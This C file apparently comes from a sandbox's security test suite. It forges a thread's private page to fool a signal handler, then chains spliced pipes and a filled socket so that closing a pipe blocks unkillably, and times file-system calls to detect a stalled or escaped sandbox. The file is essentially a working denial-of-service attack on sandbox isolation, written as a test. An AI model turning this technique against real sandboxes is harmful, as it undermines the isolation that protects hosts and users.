/* SPDX-License-Identifier: LGPL-3.0-or-later */
/*
 * A signal finds a thread "in in-process code", as far as its own forged private page tells, and
 * what it says to hold there is the last end of a pipe that somebody splices from: whoever closes
 * that waits for him and cannot be killed. Nobody else waits along.
 * ATTACK BROKEN: ASIDE
 */
#include "escape.h"
#include "forged.h"

#define FRAME_WORDS 12
#define ROUNDS      8

static int full[2];

static pid_t splice_from(int pipe_end)
{
	pid_t child = fork();

	if (child != 0)
		return child;
	(void)prctl(PR_SET_PDEATHSIG, SIGKILL);
	(void)dup2(pipe_end, 0);
	(void)dup2(full[0], 1);
	(void)close_range(3, ~0U, 0);
	(void)splice(0, NULL, 1, NULL, 4096, 0);
	_exit(0);
}

static void forge(uint64_t *private, int round, int fd)
{
	int64_t frame[FRAME_WORDS + 64] = { 0 };

	/* Somewhere around this code, so that it counts as the annex's. */
	private[0] = ((uint64_t)(uintptr_t)spin & ~0xfffULL) - 0x1000 * (uint64_t)(round % 8);
	frame[0] = (uint32_t)fd;
	signal(SIGALRM, on_signal);
	alarm(1);
	spin(frame);
	_exit(0);
}

int main(void)
{
	uint64_t gate = find_gate();
	uint64_t *private = (uint64_t *)(uintptr_t)(gate + GATE_SIZE_);
	char bytes[4096] = { 0 };
	double begin;

	if (!readable(gate + GATE_SIZE_))
		skip("no in-process code here");
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, full) < 0)
		broken("no sockets");
	while (send(full[0], bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
		;
	for (int round = 0; round < ROUNDS; round++) {
		int ends[2];

		if (pipe(ends) < 0 || write(ends[1], "some", 4) != 4)
			broken("no pipe");
		(void)splice_from(ends[0]);
		(void)close(ends[0]);
		if (fork() == 0)
			forge(private, round, ends[1]);
		(void)close(ends[1]);
	}
	begin = now();
	while (now() - begin < 4) {
		double asked = now();

		(void)access("/etc/passwd", R_OK);
		(void)chmod("never", 0600);
		if (now() - asked > 2)
			escaped("everybody waits for who splices from a pipe");
		usleep(10000);
	}
	contained();
}
